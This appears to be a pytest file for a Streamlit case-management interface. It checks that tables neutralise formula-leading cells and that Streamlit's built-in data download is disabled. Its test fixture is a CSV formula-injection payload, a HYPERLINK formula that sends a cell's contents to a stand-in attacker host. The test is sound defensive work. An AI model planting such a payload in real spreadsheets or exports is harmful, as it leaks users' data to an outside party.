"""Tables never hand a spreadsheet a formula: Streamlit's own download is off, and cells are neutralised.

A name typed as `=HYPERLINK(...)` is shown, copied and exported the way the project's CSV export
writes it (passage.core.tabular: a formula-leading text starts with a quote).
"""

import ast
import subprocess
import sys
from pathlib import Path

from sqlmodel import Session

from passage.core.tabular import cell_text, to_csv
from tests.factories import new_case
from tests.ui.conftest import OpenApp, assert_clean

ROOT = Path(__file__).resolve().parents[2]
UI = ROOT / "ui"
FORMULA = '=HYPERLINK("https://attacker.example.org/?d="&A1,"details")'
CASES = "pages/cases.py"


def test_every_table_of_the_inbox_goes_through_ui_export_table() -> None:
    """st.dataframe, st.data_editor and st.table are called in one place, the function that neutralises.

    Apart: the New case form's table of persons (ui/intake_table.py), an entry table that shows only what its
    reader types (or the programme's example) and must give it back as typed, so it is not neutralised.
    """
    calls = []
    for path in sorted(UI.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in {"dataframe", "data_editor", "table"}:
                if isinstance(node.value, ast.Name) and node.value.id == "st":
                    calls.append(f"{path.relative_to(ROOT)}:{node.lineno} st.{node.attr}")
    assert [call.split(":")[0] for call in calls] == ["ui/export.py", "ui/intake_table.py"], calls


def test_a_formula_typed_as_a_name_is_shown_as_the_csv_export_writes_it(db: Session, app: OpenApp) -> None:
    persons = [
        {"full_name": FORMULA, "nationality": "SY", "birth_date": "1984-03-02", "is_principal": True},
        {"full_name": "-1 + 2", "nationality": "SY", "birth_date": "2012-07-01"},
    ]
    new_case(session=db, persons=persons)
    at = app("pm.anna", page=CASES, case="RST-00001")
    assert_clean(at)
    names = at.dataframe[0].value["name"].tolist()
    assert names == ["'" + FORMULA, "'-1 + 2"]
    assert names == [cell_text(FORMULA), cell_text("-1 + 2")]  # the export's own rule, not a copy of it
    assert to_csv([{"name": FORMULA}]).decode("utf-8-sig").splitlines()[1].startswith("\"'=HYPERLINK")


def test_the_inbox_config_turns_streamlits_table_download_and_file_watching_off() -> None:
    """Streamlit reads ui/.streamlit/config.toml for a script of ui/, however and wherever it is started."""
    script = (
        "from streamlit import config;"
        f"config._main_script_path = {str(UI / 'server.py')!r};"
        "config.get_config_options(force_reparse=True);"
        "print(config.get_option('client.disableDataExport'), config.get_option('server.fileWatcherType'))"
    )
    shown = subprocess.run([sys.executable, "-c", script], cwd="/", capture_output=True, text=True, check=True)
    assert shown.stdout.split() == ["True", "none"]
